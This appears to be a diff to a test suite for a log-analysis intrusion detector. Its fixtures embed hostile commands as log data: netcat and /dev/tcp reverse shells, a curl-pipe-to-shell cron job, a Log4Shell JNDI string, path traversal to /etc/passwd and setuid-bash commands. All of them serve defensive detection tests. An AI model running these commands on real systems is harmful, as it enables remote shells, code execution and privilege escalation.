@@ -340,10 +340,10 @@ def test_line_numbers_are_capped_but_the_count_is_true(rules):
     assert signal.description.startswith("1200 matching lines")
 
 
-def test_webshell_success_is_high_and_probe_is_low(detector):
+def test_webshell_success_is_critical_and_probe_is_low(detector):
     hit = detector.scan([web("POST /wp-content/uploads/2024/03/shell.php?cmd=id HTTP/1.1", status=200)])
     probe = detector.scan([web("GET /c99.php HTTP/1.1", status=404, line_no=2)])
-    assert [(s.rule_id, s.level) for s in hit if "webshell" in s.rule_id] == [("lw-web-webshell-access", "high")]
+    assert [(s.rule_id, s.level) for s in hit if "webshell" in s.rule_id] == [("lw-web-webshell-access", "critical")]
     assert [(s.rule_id, s.level) for s in probe] == [("lw-web-webshell-probe", "low")]
 
 
@@ -578,13 +578,47 @@ def test_auditd_failed_login_burst(detector):
     assert signal[0].key == "45.95.147.236" and signal[0].line_numbers == [1, 2, 3, 4, 5]
 
 
-def test_auditd_execve_of_netcat_and_recon_tools(detector):
-    nc = auditd('type=EXECVE msg=audit(1700000100.001:900): argc=4 a0="nc" a1="-e" a2="/bin/sh" a3="198.51.100.9"')
-    nmap = auditd('type=EXECVE msg=audit(1700000100.002:901): argc=3 a0="/usr/bin/nmap" a1="-sS" a2="10.0.0.0/24"', 2)
-    ls = auditd('type=EXECVE msg=audit(1700000100.003:902): argc=2 a0="ls" a1="-la"', 3)
-    assert fired(detector.scan([nc])) == {"lw-auditd-reverse-shell-tool"}
+def execve(args: str, line_no: int = 1) -> Event:
+    return auditd(f"type=EXECVE msg=audit(1700000100.{line_no:03d}:{900 + line_no}): {args}", line_no)
+
+
+def test_auditd_execve_of_reverse_shells_and_recon_tools(detector):
+    nc = execve('argc=5 a0="nc" a1="-e" a2="/bin/sh" a3="198.51.100.9" a4="4444"')
+    dev_tcp = execve('argc=3 a0="bash" a1="-c" a2="bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"', 2)
+    nmap = execve('argc=3 a0="/usr/bin/nmap" a1="-sS" a2="10.0.0.0/24"', 3)
+    assert [(s.rule_id, s.level) for s in detector.scan([nc])] == [("lw-auditd-reverse-shell-tool", "critical")]
+    assert fired(detector.scan([dev_tcp])) == {"lw-auditd-reverse-shell-tool"}
     assert fired(detector.scan([nmap])) == {"lw-auditd-recon-tool"}
-    assert detector.scan([ls]) == []
+
+
+@pytest.mark.parametrize("args", ['argc=2 a0="ls" a1="-la"', 'argc=4 a0="nc" a1="-zv" a2="db01" a3="5432"',
+                                  'argc=3 a0="chmod" a1="755" a2="/usr/local/bin/deploy.sh"',
+                                  'argc=3 a0="bash" a1="-c" a2="echo hello"'])
+def test_auditd_benign_execs_are_quiet(detector, args):
+    assert detector.scan([execve(args)]) == []
+
+
+@pytest.mark.parametrize("args", ['argc=3 a0="chmod" a1="u+s" a2="/bin/bash"',
+                                  'argc=3 a0="/usr/bin/chmod" a1="4755" a2="/usr/bin/python3"',
+                                  'argc=2 a0="bash" a1="-p"'])
+def test_auditd_setuid_shell(detector, args):
+    signal = by_rule(detector.scan([execve(args)]), "lw-auditd-setuid-shell")
+    assert [(s.level, s.category) for s in signal] == [("critical", "privilege_escalation")]
+
+
+def test_auditd_account_creation_and_admin_group(detector):
+    add = auditd("type=ADD_USER msg=audit(1710235870.192:21264): pid=10710 uid=0 auid=1001 ses=51 subj=unconfined "
+                 "msg='op=adding user acct=\"sysupdate\" id=1009 exe=\"/usr/sbin/useradd\" hostname=web01 addr=? "
+                 "terminal=pts/1 res=success'")
+    grp = auditd("type=USER_MGMT msg=audit(1710235879.289:21265): pid=10768 uid=0 auid=1001 ses=51 subj=unconfined "
+                 "msg='op=adding-user-to-group acct=\"sysupdate\" grp=\"sudo\" exe=\"/usr/sbin/usermod\" "
+                 "hostname=web01 addr=? terminal=pts/1 res=success'", 2)
+    other = auditd("type=USER_MGMT msg=audit(1710235879.289:21266): pid=10768 uid=0 auid=1001 ses=51 "
+                   "msg='op=adding-user-to-group acct=\"alice\" grp=\"docker\" exe=\"/usr/sbin/usermod\" "
+                   "hostname=web01 addr=? terminal=pts/1 res=success'", 3)
+    assert [(s.rule_id, s.key) for s in detector.scan([add])] == [("lw-auditd-account-created", "sysupdate")]
+    assert [(s.rule_id, s.level) for s in detector.scan([grp])] == [("lw-auditd-added-to-admin-group", "high")]
+    assert detector.scan([other]) == []
 
 
 # --- engine properties -----------------------------------------------------------------------------
@@ -682,3 +716,171 @@ rules:
     signal = detector.scan([syslog("Mar 10 07:17:01 web1 CRON[6204]: (root) CMD (run-parts /etc/cron.hourly)")])[0]
     assert (signal.level, signal.techniques, signal.key) == ("info", ["T1053.003"], "web1")
     assert detector.scan([syslog("Mar 10 07:17:01 web1 CRON[6204]: (root) cmd (x)")]) == []
+
+
+# --- rules added for server-side echoes, applications, cron, firewall, exfiltration ----------------
+
+
+def apache_error(line: str, line_no: int = 1) -> Event:
+    m = re.match(r"^\[([^\]]+)\] \[(\w+):(\w+)\] \[pid (\d+)[^\]]*\](?: \[client ([^\]]+)\])? (.*)$", line)
+    stamp, module, level, pid, client, message = m.groups()
+    fields = {"level": level, "module": module, "pid": int(pid)}
+    if client:
+        fields["src_ip"] = client.rsplit(":", 1)[0]
+    if code := re.match(r"(AH\d{5})", message):
+        fields["error_code"] = code.group(1)
+    ts = datetime.strptime(stamp[:19] + stamp[-5:], "%a %b %d %H:%M:%S %Y")
+    return Event(source="error.log", line_no=line_no, offset=0, raw=line, format="apache_error", ts=ts,
+                 message=message, fields=fields)
+
+
+def err(i: int, client: str, text: str) -> str:
+    return f"[Tue Mar 12 07:42:{i:02d}.264903 2024] [authz_core:error] [pid 31200:tid 1398] [client {client}:43101] {text}"
+
+
+def test_error_log_scanner_burst_but_not_a_few_denials(rules):
+    texts = ["AH01630: client denied by server configuration: /var/www/html/.htaccess",
+             "AH02811: script not found or unable to stat: /usr/lib/cgi-bin/printenv"]
+    burst = [apache_error(err(i, "198.51.100.23", texts[i % 2]), i) for i in range(1, 11)]
+    assert by_rule(Detector(rules).scan(burst), "lw-weberr-scanner-errors")[0].key == "198.51.100.23"
+    assert Detector(rules).scan(burst[:3]) == []
+
+
+@pytest.mark.parametrize("text, rule_id", [
+    ("AH01071: Got error 'PHP message: PHP Fatal error:  Uncaught mysqli_sql_exception: You have an error in your SQL "
+     "syntax; check the manual that corresponds to your MySQL server version'", "lw-weberr-sql-error"),
+    ("AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd)", "lw-weberr-traversal"),
+    ("AH01071: Got error 'PHP message: PHP Warning:  include(php://filter/convert.base64-encode/resource=config.php): "
+     "Failed to open stream: operation failed'", "lw-weberr-traversal"),
+    ("AH01215: sh: 1: wget: not found: /usr/lib/cgi-bin/diag.cgi", "lw-weberr-command-output"),
+    ("AH01215: uid=33(www-data) gid=33(www-data) groups=33(www-data): /usr/lib/cgi-bin/diag.cgi", "lw-weberr-command-output"),
+    ("AH01071: Got error 'PHP message: PHP Warning:  Undefined array key \"cmd\" in /var/www/html/uploads/shell.php on "
+     "line 2'", "lw-weberr-webshell"),
+])
+def test_error_log_echoes_of_web_attacks(detector, text, rule_id):
+    signals = by_rule(detector.scan([apache_error(err(5, "203.0.113.23", text), 7)]), rule_id)
+    assert [(s.key, s.level, s.line_numbers) for s in signals] == [("203.0.113.23", "high", [7])]
+
+
+@pytest.mark.parametrize("text", [
+    "AH01071: Got error 'PHP message: PHP Warning:  Undefined variable $cart in /var/www/html/cart.php on line 88'",
+    "AH00124: Request exceeded the limit of 10 internal redirects due to probable configuration error.",
+    "AH01382: Request header read timeout",
+])
+def test_error_log_benign_lines(detector, text):
+    assert detector.scan([apache_error(err(5, "10.0.0.7", text))]) == []
+
+
+def generic(line: str, line_no: int = 1, ts: datetime = T0) -> Event:
+    return Event(source="app.log", line_no=line_no, offset=0, raw=line, format="generic", ts=ts, message=line)
+
+
+SPRING = "2024-03-12 08:20:{s:02d}.423  WARN 2231 --- [nio-8080-exec-5] c.e.shop.security.LoginAuditListener     : "
+
+
+def test_application_login_failures_from_one_address(rules):
+    lines = [generic(SPRING.format(s=i) + f"Authentication failure for user 'admin' from 203.0.113.45: Bad credentials",
+                     i, T0 + timedelta(seconds=i)) for i in range(1, 11)]
+    assert by_rule(Detector(rules).scan(lines), "lw-app-login-failure-burst")[0].key == "203.0.113.45"
+    ok = [generic(SPRING.format(s=i) + "Authentication success for user 'alice' from 10.0.0.5", i) for i in range(1, 20)]
+    assert Detector(rules).scan(ok) == []
+
+
+def test_credential_stuffing_in_rfc5424_structured_data(rules):
+    users = ["admin", "alice", "j.smith", "support", "m.chen", "root"]
+    events = []
+    for i, user in enumerate(users, 1):
+        sd = f'[auth@32473 user="{user}" src="203.0.113.45" reason="bad_password"]'
+        raw = f"<36>1 2024-03-12T08:15:2{i}.380791Z sso01.corp.example.com auth-svc 1187 LOGIN_FAIL {sd} login failed"
+        events.append(Event(source="rfc5424.log", line_no=i, offset=0, raw=raw, format="rfc5424",
+                            ts=UTC0 + timedelta(seconds=i), host="sso01.corp.example.com", program="auth-svc",
+                            message="login failed", fields={"program": "auth-svc", "pid": 1187, "app_name": "auth-svc",
+                                                            "msgid": "LOGIN_FAIL", "structured_data": sd}))
+    signal = by_rule(Detector(rules).scan(events), "lw-app-credential-stuffing")[0]
+    assert signal.key == "203.0.113.45" and "6 distinct user" in signal.description
+
+
+@pytest.mark.parametrize("line, rule_id, level", [
+    (SPRING.format(s=1) + "Rejected request GET /api/v1/search header X-Api-Version=${jndi:ldap://203.0.113.77:1389/a} from "
+     "203.0.113.77", "lw-log4shell-any", "high"),
+    ("java.lang.NullPointerException: Cannot invoke \"com.example.shop.model.Address.getCountry()\"",
+     "lw-app-fatal-error", "low"),
+    ("2024-03-12 18:21:47.635 ERROR 2231 --- [nio-8080-exec-5] o.h.engine.jdbc.spi.SqlExceptionHelper   : HikariPool-1 - "
+     "Connection is not available, request timed out after 30000ms.", "lw-app-database-unavailable", "medium"),
+])
+def test_application_log_rules(detector, line, rule_id, level):
+    signals = detector.scan([generic(line, 3)])
+    assert [(s.rule_id, s.level, s.line_numbers) for s in signals] == [(rule_id, level, [3])]
+
+
+def test_application_benign_lines(detector):
+    lines = ["2024-03-12 08:00:00.001  INFO 2231 --- [           main] c.e.shop.ShopApplication : Started ShopApplication in 5.2 seconds",
+             SPRING.format(s=2) + "Password policy check passed for user 'alice'"]
+    assert detector.scan([generic(line, i) for i, line in enumerate(lines, 1)]) == []
+
+
+def test_cron_download_and_execute_and_service_account_crontab(detector):
+    cron = syslog("Mar 12 19:01:03 web01 CRON[8447]: (www-data) CMD (curl -fsSL http://203.0.113.77/k.sh | sh >/dev/null 2>&1)")
+    tab = syslog("Mar 12 19:00:03 web01 crontab[8426]: (www-data) REPLACE (www-data)", 2)
+    root_tab = syslog("Mar 12 19:00:03 web01 crontab[8426]: (root) REPLACE (root)", 3)
+    backup = syslog("Mar 12 19:01:03 web01 CRON[8447]: (root) CMD (/usr/local/bin/backup.sh > /var/log/backup.log 2>&1)", 4)
+    assert [(s.rule_id, s.level) for s in detector.scan([cron])] == [("lw-cron-download-and-execute", "high")]
+    assert fired(detector.scan([tab])) == {"lw-crontab-changed-by-service-account"}
+    assert detector.scan([root_tab, backup]) == []
+
+
+def firewall(i: int, port: int, src: str = "203.0.113.14") -> Event:
+    return syslog(f"Mar 12 07:35:{i:02d} db01 kernel: [277135.720897] filter_IN_public_REJECT: IN=eth0 OUT= "
+                  f"MAC=0a:1b:2c:3d:4e:5f:0a:9e:8d:7c:6b:5a:08:00 SRC={src} DST=10.0.8.30 LEN=44 TOS=0x00 PREC=0x00 "
+                  f"TTL=50 ID=59318 PROTO=TCP SPT=57871 DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0", i)
+
+
+def test_firewall_port_scan_needs_many_distinct_ports(rules):
+    scan = [firewall(i, port) for i, port in enumerate([21, 22, 23, 25, 53, 80, 110, 143, 443, 445, 3306, 3389], 1)]
+    assert by_rule(Detector(rules).scan(scan), "lw-firewall-port-scan")[0].key == "203.0.113.14"
+    same_port = [firewall(i, 22) for i in range(1, 30)]
+    assert Detector(rules).scan(same_port) == []
+
+
+def test_sftp_large_read_but_not_a_small_one(detector):
+    big = syslog('Mar 12 18:21:47 db01 sftp-server[6251]: close "/var/lib/pgsql/backups/prod_full.sql.gz" bytes read '
+                 '4831838208 written 0')
+    small = syslog('Mar 12 04:04:41 db01 sftp-server[4866]: close "/var/lib/pgsql/backups/prod_incr_19.sql.gz" bytes read '
+                   '60060913 written 0', 2)
+    assert fired(detector.scan([big])) == {"lw-sftp-large-download"}
+    assert detector.scan([small]) == []
+
+
+def test_aws_root_console_login_and_root_access_key(detector):
+    root = {"type": "Root", "arn": "arn:aws:iam::123456789012:root", "accountId": "123456789012"}
+    login = ct("ConsoleLogin", source="signin.amazonaws.com", identity=root, eventType="AwsConsoleSignIn",
+               responseElements={"ConsoleLogin": "Success"}, additionalEventData={"MFAUsed": "No"})
+    key = ct("CreateAccessKey", identity=root, responseElements={"accessKey": {"status": "Active"}})
+    assert fired(detector.scan([login])) == {"lw-aws-root-console-login", "lw-aws-root-account-usage"}
+    assert fired(detector.scan([key])) == {"lw-aws-root-access-key-created", "lw-aws-root-account-usage"}
+
+
+def test_bulk_s3_downloads_count_distinct_objects(rules):
+    def get(i: int, key: str) -> Event:
+        return ct("GetObject", source="s3.amazonaws.com", eventType="AwsApiCall",
+                  requestParameters={"bucketName": "corp-finance-reports", "key": key})
+    many = [get(i, f"reports/2023/q{i % 4}/r{i}.pdf") for i in range(25)]
+    same = [get(i, "reports/index.json") for i in range(25)]
+    assert by_rule(Detector(rules).scan(many), "lw-aws-s3-bulk-download")[0].key == "198.51.100.23"
+    assert Detector(rules).scan(same) == []
+
+
+@pytest.mark.parametrize("request_line, status, size, rule_id", [
+    ("GET /.env HTTP/1.1", 404, 0, "lw-web-sensitive-file-probe"),
+    ("GET /.git/config HTTP/1.1", 403, 0, "lw-web-sensitive-file-probe"),
+    ("GET /backup/shop_db_2024-03-12.sql.gz HTTP/1.1", 200, 1873256448, "lw-web-database-dump-download"),
+    ("GET /media/keynote-recording.mp4 HTTP/1.1", 200, 734003200, "lw-web-large-download"),
+])
+def test_probing_and_large_or_dump_downloads(detector, request_line, status, size, rule_id):
+    line = f'203.0.113.50 - - [12/Mar/2024:18:05:06 +0000] "{request_line}" {status} {size} "-" "Wget/1.21.2"'
+    assert rule_id in fired(detector.scan([access(line)]))
+
+
+def test_ordinary_downloads_are_quiet(detector):
+    line = '10.0.0.9 - - [12/Mar/2024:18:05:06 +0000] "GET /downloads/app-1.2.zip HTTP/1.1" 200 52428800 "-" "curl/8.4.0"'
+    assert detector.scan([access(line)]) == []
